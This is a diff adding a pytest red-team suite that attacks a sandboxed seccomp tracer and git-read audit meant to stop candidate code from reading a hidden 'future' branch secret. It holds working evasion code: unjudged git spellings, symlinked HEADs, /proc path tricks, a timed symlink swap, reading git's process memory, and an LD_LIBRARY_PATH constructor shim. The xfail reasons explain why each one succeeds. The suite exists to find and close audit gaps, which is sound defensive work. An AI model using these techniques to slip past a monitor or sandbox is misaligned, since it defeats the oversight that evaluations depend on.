@@ -1,0 +1,448 @@
+"""Red-team attacks on the traced phase's git-read judgement, by someone who did not write it.
+
+Each attack is a candidate's train code trying to read a task repository's future (the branch
+``future`` holding ``FUTURE_SECRET_42``, not in ``main``, the base) in the real sandbox under the
+compiled seccomp tracer, with the task repository locked and its state compared after the phase,
+then audited as a run's audit does (``_traced`` of test_redteam_gym_trace.py). The safe outcome:
+the secret never came out, or the audit flags the run.
+
+An attack that is stopped asserts that it is stopped. An attack that works is kept as a strict
+xfail asserting the safe outcome (it starts passing, and so failing as XPASS, once closed); its
+reason says how it works.
+"""
+
+from __future__ import annotations
+
+import shutil
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from test_redteam_gym_trace import SECRET, _flagged, _safe, _traced
+
+from evotree.harness import sandbox
+from evotree.harness.audit.trace import git_identities
+
+
+@pytest.fixture
+def seccomp(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sandbox, "TRACER", "seccomp")
+    if not (sandbox.check_sandbox().ok and sandbox._seccomp_works()):
+        pytest.skip("needs bubblewrap and the compiled seccomp tracer (a C compiler)")
+    if not git_identities():
+        pytest.skip("no git on this machine")
+
+
+def _works(reason: str) -> pytest.MarkDecorator:
+    return pytest.mark.xfail(strict=True, raises=AssertionError, reason=reason)
+
+
+#: finds the zlib streams in a file (a pack, raw bytes) and prints those holding the secret
+_INFLATE = """\
+import sys, zlib
+data = open(sys.argv[1], "rb").read()
+for start in range(len(data)):
+    try:
+        text = zlib.decompressobj().decompress(data[start:])
+    except zlib.error:
+        continue
+    if b"SECRET" in text:
+        print(text.decode("latin1"))
+"""
+
+
+# ------------------------------------------------------------ git spellings the audit never judges
+
+#: the machine's git reading the future with only the task repository's own HEAD, references and
+#: objects (so no git-read finding), under a command line the audit's git rules do not judge:
+#: subcommands missing from every list of history_rules.py (diff-index, merge-tree, pack-objects,
+#: ``diff-tree --stdin``), a listing judged only with -v (``branch --format``), or a revision set
+#: in config rather than on the command line (``showbranch.default``)
+_UNJUDGED = {
+    "branch --format prints every branch's message": "git branch --format='%(refname) %(contents)'",
+    "diff-index -p against the future branch": "git diff-index -p future",
+    "merge-tree of main and the future branch (trivial merge)": "git merge-tree main main future",
+    "show-branch, its default revisions from GIT_CONFIG_*": (
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=showbranch.default GIT_CONFIG_VALUE_0=future "
+        "git show-branch"
+    ),
+    "show-branch, its default revisions from -c": "git -c showbranch.default=future show-branch",
+    "diff-tree --stdin fed every branch tip by branch --format": (
+        "git branch --format='%(objectname)' | git diff-tree --stdin -p"
+    ),
+    "pack-objects --revs --all, the pack inflated by hand": (
+        "git pack-objects --revs --all --stdout </dev/null >/tmp/p; python3 inflate.py /tmp/p"
+    ),
+}
+
+
+@pytest.mark.heavy
+@_works(
+    "the audit's git rules (harness/audit/history_rules.py) judge subcommands they list: "
+    "diff-index, merge-tree and pack-objects are in none; diff-tree's --stdin is not in "
+    "_walks_every_ref's list; git branch is judged only with -v/-a/-r (not --format, which "
+    "prints %(contents) of every branch); show-branch's showbranch.default (config, -c or "
+    "GIT_CONFIG_*) names revisions no argv shows. The machine's git reads only the task "
+    "repository's own HEAD, references and objects, so judge_git_reads finds nothing either"
+)
+@pytest.mark.parametrize("name", sorted(_UNJUDGED))
+def test_git_spellings_the_audit_does_not_judge(tmp_path: Path, seccomp: None, name: str) -> None:
+    proc, audit = _traced(tmp_path, _UNJUDGED[name], {"inflate.py": _INFLATE})
+    _safe(proc, audit)
+
+
+# ----------------------------------------------------- a HEAD git never opens: a symbolic link
+
+#: git reads a HEAD that is a symbolic link with lstat and readlink (a link to ``refs/...`` is a
+#: symbolic ref by its target's text): no open, so no gitread row of a HEAD that is not the task
+#: repository's; the references and objects it then reads are the task repository's own
+_LINK_HEAD = {
+    "commondir naming the task repository": (
+        "python3 t.py; GIT_DIR=/tmp/f git log -p",
+        "import os\nos.mkdir('/tmp/f')\nos.symlink('refs/heads/future', '/tmp/f/HEAD')\n"
+        "open('/tmp/f/commondir', 'w').write(os.getcwd() + '/.' + 'git')\n",
+    ),
+    "objects and refs linked to the task repository's": (
+        "python3 t.py; GIT_DIR=f git log -p",
+        "import os\nd = '../.' + 'git/'\nos.mkdir('f')\n"
+        "[os.symlink(d + n, 'f/' + n) for n in ('objects', 'refs')]\n"
+        "os.symlink('refs/heads/future', 'f/HEAD')\n",
+    ),
+}
+
+
+@pytest.mark.heavy
+@_works(
+    "a git directory of the phase's own whose HEAD is a symbolic link to 'refs/heads/future': "
+    "git resolves such a HEAD by lstat+readlink (files_read_raw_ref, validate_headref) and never "
+    "opens it, so the tracer writes no 'head' row; the only HEAD/ref rows are the task "
+    "repository's refs/heads/future (known to task_repositories) and its objects, so "
+    "judge_git_reads has nothing foreign to flag. The same git dir with a regular HEAD file is "
+    "flagged (test_redteam_gym_trace.py)"
+)
+@pytest.mark.parametrize("name", sorted(_LINK_HEAD))
+def test_a_head_that_is_a_link_of_its_own(tmp_path: Path, seccomp: None, name: str) -> None:
+    script, code = _LINK_HEAD[name]
+    proc, audit = _traced(tmp_path, script, {"t.py": code})
+    _safe(proc, audit)
+
+
+# ------------------------------------------------------- git storage read without git, unseen
+
+#: the object store read with zlib through descriptors: each file or folder opened O_PATH (let by
+#: unreported) and reopened through a /proc descriptor link spelled as argv[1] says
+_REOPEN = """\
+import os, sys, zlib
+VIA = sys.argv[1]
+
+def reopen(path, folder=False):
+    fd = os.open(path, os.O_PATH)
+    flags = os.O_RDONLY | (os.O_DIRECTORY if folder else 0)
+    try:
+        if VIA == "/dev/stdin":
+            os.dup2(fd, 0)
+            return os.open("/dev/stdin", flags)
+        return os.open(VIA.format(fd=fd), flags)
+    finally:
+        os.close(fd)
+
+store = "." + "git/objects"
+top = reopen(store, folder=True)
+for xx in os.listdir(top):
+    if len(xx) != 2:
+        continue
+    sub = reopen(store + "/" + xx, folder=True)
+    for name in os.listdir(sub):
+        fd = reopen(store + "/" + xx + "/" + name)
+        text = zlib.decompress(os.read(fd, 1 << 20))
+        os.close(fd)
+        if b"SECRET" in text:
+            print(text.decode("latin1"))
+"""
+
+#: reopened as the tracer expects: /proc/self/fd/N and /dev/fd/N are read from the caller's table
+_REOPEN_SEEN = ("/dev/fd/{fd}", "/proc/self/fd/{fd}")
+#: the same descriptor links spelled otherwise: the tracer walks them with openat2 in the caller's
+#: root, where /proc/self names no process (the tracer is outside the sandbox's PID namespace:
+#: ENOENT, not the ELOOP/EXDEV it takes for a /proc link), so nothing is resolved and no row is
+#: written; the kernel follows the caller's own descriptor
+_REOPEN_UNSEEN = ("/dev/./fd/{fd}", "/proc/./self/fd/{fd}", "//proc/self/fd/{fd}", "/dev/stdin")
+
+
+@pytest.mark.heavy
+@pytest.mark.parametrize("via", _REOPEN_SEEN)
+def test_a_descriptor_reopened_through_proc_is_a_finding(
+    tmp_path: Path, seccomp: None, via: str
+) -> None:
+    proc, audit = _traced(tmp_path, f"python3 t.py '{via}'", {"t.py": _REOPEN})
+    assert SECRET in proc.stdout, proc.stderr[-2000:]
+    assert _flagged(audit)
+
+
+@pytest.mark.heavy
+@_works(
+    "seccomp_trace.c resolve() special-cases only the exact prefixes /proc/self/fd/, "
+    "/proc/thread-self/fd/ and /dev/fd/; any other spelling (/dev/./fd/N, /proc/./self/fd/N, "
+    "//proc/self/fd/N, /dev/stdin) is walked with openat2 RESOLVE_IN_ROOT in /proc/PID/root, "
+    "where /proc/self fails with ENOENT for the tracer (outside the sandbox's PID namespace); "
+    "'magic' is set only for a path starting with '/proc/' failing with ELOOP/EXDEV, so the "
+    "open returns without a row, while the kernel reopens the O_PATH descriptor of the object"
+)
+@pytest.mark.parametrize("via", _REOPEN_UNSEEN)
+def test_a_descriptor_reopened_through_another_spelling(
+    tmp_path: Path, seccomp: None, via: str
+) -> None:
+    proc, audit = _traced(tmp_path, f"python3 t.py '{via}'", {"t.py": _REOPEN})
+    _safe(proc, audit)
+
+
+#: a working directory whose path is longer than a page: the tracer's readlink of
+#: /proc/PID/cwd fails (ENAMETOOLONG), it takes "" as the base of a relative path and walks
+#: "/s/..." (nothing), while the kernel opens the link s in that folder: the object store
+_DEEP_CWD = """\
+import os, zlib
+store = os.path.realpath("." + "git/objects")
+os.chdir("/tmp")
+for _ in range(24):
+    os.mkdir("d" * 200)
+    os.chdir("d" * 200)
+os.symlink(store, "s")
+for xx in os.listdir("s"):
+    if len(xx) == 2:
+        for name in os.listdir("s/" + xx):
+            with open("s/" + xx + "/" + name, "rb") as fh:
+                text = zlib.decompress(fh.read())
+            if b"SECRET" in text:
+                print(text.decode("latin1"))
+"""
+
+
+@pytest.mark.heavy
+@_works(
+    "open_row builds the path of a relative open from readlink(/proc/PID/cwd) into a 4 KiB "
+    "buffer; for a working directory deeper than a page the readlink fails, the base becomes "
+    "'' and the tracer checks and walks '/s/xx/...', which names nothing, so no row; the "
+    "kernel resolves s in the real working directory (a link to .git/objects)"
+)
+def test_a_relative_open_from_a_working_directory_deeper_than_a_page(
+    tmp_path: Path, seccomp: None
+) -> None:
+    proc, audit = _traced(tmp_path, "python3 t.py", {"t.py": _DEEP_CWD})
+    _safe(proc, audit)
+
+
+#: the documented window between the tracer's walk and the kernel's, made deterministic: following
+#: a fresh symbolic link updates its access time (relatime: atime <= mtime), so a thread that
+#: polls lstat sees the moment the tracer has walked the link and only then renames a link to the
+#: object over it; the tracer never sees the object's path, the kernel opens it (or the harmless
+#: file, and the attempt is retried: no row either way)
+_SWAP = """\
+import os, threading, zlib
+open("/tmp/harmless", "w").write("nothing")
+os.makedirs("/tmp/harmless.d", exist_ok=True)
+tries = [0]
+
+def sneak_open(target, flags, folder=False):
+    real = os.stat(target)
+    while tries[0] < 20000:
+        tries[0] += 1
+        link, other = "/tmp/l%d" % tries[0], "/tmp/m%d" % tries[0]
+        os.symlink("/tmp/harmless.d" if folder else "/tmp/harmless", link)
+        os.symlink(target, other)
+        before = os.lstat(link).st_atime_ns
+        got = []
+        opener = threading.Thread(target=lambda: got.append(os.open(link, flags)))
+        opener.start()
+        while os.lstat(link).st_atime_ns == before and opener.is_alive():
+            pass
+        os.rename(other, link)
+        opener.join()
+        st = os.fstat(got[0])
+        os.unlink(link)
+        if (st.st_dev, st.st_ino) == (real.st_dev, real.st_ino):
+            return got[0]
+        os.close(got[0])
+    raise SystemExit("never won")
+
+store = os.path.realpath("." + "git/objects")
+top = sneak_open(store, os.O_RDONLY | os.O_DIRECTORY, True)
+for xx in os.listdir(top):
+    if len(xx) != 2:
+        continue
+    sub = sneak_open(store + "/" + xx, os.O_RDONLY | os.O_DIRECTORY, True)
+    for name in os.listdir(sub):
+        fd = sneak_open(store + "/" + xx + "/" + name, os.O_RDONLY)
+        text = zlib.decompress(os.read(fd, 1 << 20))
+        if b"SECRET" in text:
+            print(text.decode("latin1"))
+print("tries", tries[0])
+"""
+
+
+@pytest.mark.heavy
+@_works(
+    "the tracer walks an open's path before CONTINUE and the kernel walks it again after "
+    "(the residual of docs/threat-model.md); the phase learns when the tracer has walked a "
+    "link from the link's access time (pick_link touches it; /tmp is relatime) and swaps the "
+    "link only then: the tracer resolves the harmless file every time, no row is ever written, "
+    "and about one try in three the kernel opens the object (~40 tries for the whole store)"
+)
+def test_a_link_swapped_when_its_access_time_shows_the_tracer_walked_it(
+    tmp_path: Path, seccomp: None
+) -> None:
+    proc, audit = _traced(tmp_path, "python3 t.py", {"t.py": _SWAP})
+    _safe(proc, audit)
+
+
+# ------------------------------------------------------------------ through the machine's git
+
+#: the machine's git is exempt from open rows and maps a pack it reads whole (its window is 1 GiB);
+#: a plain git log -1 of HEAD, kept alive on a full one-page pipe, has the future's objects in
+#: its memory, read through /proc/PID/mem (a parent may read its child). The store is packed first
+#: by git repack -a -d (itself unjudged: its pack-objects --all is not a judged subcommand)
+_GIT_MEMORY = """\
+import fcntl, os, subprocess, time, zlib
+r, w = os.pipe()
+fcntl.fcntl(w, 1031, 4096)  # F_SETPIPE_SZ
+git = subprocess.Popen(["git", "log", "-1", "--format=" + "%H" * 600], stdout=w)
+os.close(w)
+regions = []
+for _ in range(250):
+    time.sleep(0.02)
+    with open("/proc/%d/maps" % git.pid) as fh:
+        regions = [line for line in fh if line.rstrip().endswith(".pack")]
+    if regions:
+        break
+with open("/proc/%d/mem" % git.pid, "rb", buffering=0) as mem:
+    for line in regions:
+        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
+        mem.seek(lo)
+        data = mem.read(hi - lo)
+        for start in range(len(data)):
+            try:
+                text = zlib.decompressobj().decompress(data[start:])
+            except zlib.error:
+                continue
+            if b"SECRET" in text:
+                print(text.decode("latin1"))
+git.kill()
+git.wait()
+"""
+
+
+@pytest.mark.heavy
+@_works(
+    "the machine's git (exempt from open rows) reads the task repository's pack for "
+    "git log -1 and maps it whole, future objects included; its parent reads them from "
+    "/proc/PID/mem (not git storage by path: no row; no ptrace or process_vm_readv refused). "
+    "git repack -a -d, which packs every object first, is judged by no rule either"
+)
+def test_the_memory_of_the_machines_git_read_by_its_parent(tmp_path: Path, seccomp: None) -> None:
+    proc, audit = _traced(
+        tmp_path, "git repack -a -d -q 2>/dev/null; python3 t.py", {"t.py": _GIT_MEMORY}
+    )
+    _safe(proc, audit)
+
+
+#: a library git loads from LD_LIBRARY_PATH (libpcre2-8.so.0: git asks for no version of it) whose
+#: constructor, run inside the machine's git before main, copies the loose objects out (a
+#: write-only open is no row); the git process's opens are gitread rows of objects only, under the
+#: task repository's own HEAD
+_SHIM = r"""
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+__attribute__((constructor)) static void payload(void) {
+    if (!getenv("SHIM")) return;
+    char store[4096], dir[4200], file[4500], buf[1 << 16];
+    if (!getcwd(store, sizeof store - 16)) return;
+    strcat(store, "/.");
+    strcat(store, "git/obj");
+    strcat(store, "ects");
+    int out = open("/tmp/raw", O_WRONLY | O_CREAT | O_TRUNC, 0644);
+    DIR *top = opendir(store);
+    struct dirent *a, *b;
+    while (top && (a = readdir(top))) {
+        if (strlen(a->d_name) != 2) continue;
+        snprintf(dir, sizeof dir, "%s/%s", store, a->d_name);
+        DIR *sub = opendir(dir);
+        while (sub && (b = readdir(sub))) {
+            if (b->d_name[0] == '.') continue;
+            snprintf(file, sizeof file, "%s/%s", dir, b->d_name);
+            int fd = open(file, O_RDONLY);
+            ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf) : -1;
+            if (fd >= 0) close(fd);
+            if (n > 0 && write(out, buf, (size_t)n) < 0) break;
+        }
+        if (sub) closedir(sub);
+    }
+    close(out);
+    _exit(0);
+}
+"""
+
+
+@pytest.mark.heavy
+@pytest.mark.skipif(shutil.which("cc") is None, reason="needs a C compiler in the sandbox")
+@_works(
+    "LD_LIBRARY_PATH is not among the loader variables that taint the machine's git "
+    "(LD_PRELOAD, LD_AUDIT, GCONV_PATH): a libpcre2-8.so.0 of the phase's own runs its "
+    "constructor inside git, whose opens of the objects are exempt from open rows (the residual "
+    "named in docs/threat-model.md)"
+)
+def test_a_library_git_loads_from_ld_library_path(tmp_path: Path, seccomp: None) -> None:
+    script = (
+        "mkdir /tmp/l && cc -shared -fPIC -o /tmp/l/libpcre2-8.so.0 shim.c && "
+        "SHIM=1 LD_LIBRARY_PATH=/tmp/l git version; python3 inflate.py /tmp/raw"
+    )
+    proc, audit = _traced(tmp_path, script, {"shim.c": _SHIM, "inflate.py": _INFLATE})
+    _safe(proc, audit)
+
+
+# ------------------------------------------------------------------------------------ stopped
+
+#: a process that leaves the phase's session and waits for the phase to end before it reads
+_OUTLIVE = """\
+import glob, os, sys, time, zlib
+if os.fork():
+    sys.exit(0)
+os.setsid()
+if os.fork():
+    os._exit(0)
+time.sleep(3)
+out = [zlib.decompress(open(p, "rb").read()) for p in glob.glob("." + "git/objects/*/*")]
+open("leak.txt", "wb").write(b"\\n".join(out))
+"""
+
+
+@pytest.mark.heavy
+def test_a_process_that_outlives_the_phase_reads_nothing(tmp_path: Path, seccomp: None) -> None:
+    """Stopped: the sandbox's PID namespace ends with the phase (every process in it is killed),
+    so a daemonized reader never runs after the tracer stops."""
+    proc, audit = _traced(tmp_path, "python3 t.py; echo started", {"t.py": _OUTLIVE})
+    assert "started" in proc.stdout, proc.stderr
+    time.sleep(5)
+    assert not (tmp_path / "work" / "leak.txt").exists()
+    assert not _flagged(audit)
+
+
+_PYGIT2 = """\
+import pygit2
+repo = pygit2.Repository(".")
+print(repo.revparse_single("future").tree["a.txt"].data.decode())
+"""
+
+
+@pytest.mark.heavy
+def test_libgit2_in_the_phase_is_a_finding(tmp_path: Path, seccomp: None) -> None:
+    """Stopped: pygit2 (libgit2 in this venv's Python) is not the machine's git, so its every
+    open of the refs and objects is an open row."""
+    pytest.importorskip("pygit2")
+    proc, audit = _traced(tmp_path, f"{sys.executable} t.py", {"t.py": _PYGIT2})
+    assert SECRET in proc.stdout, proc.stderr[-2000:]
+    assert _flagged(audit)
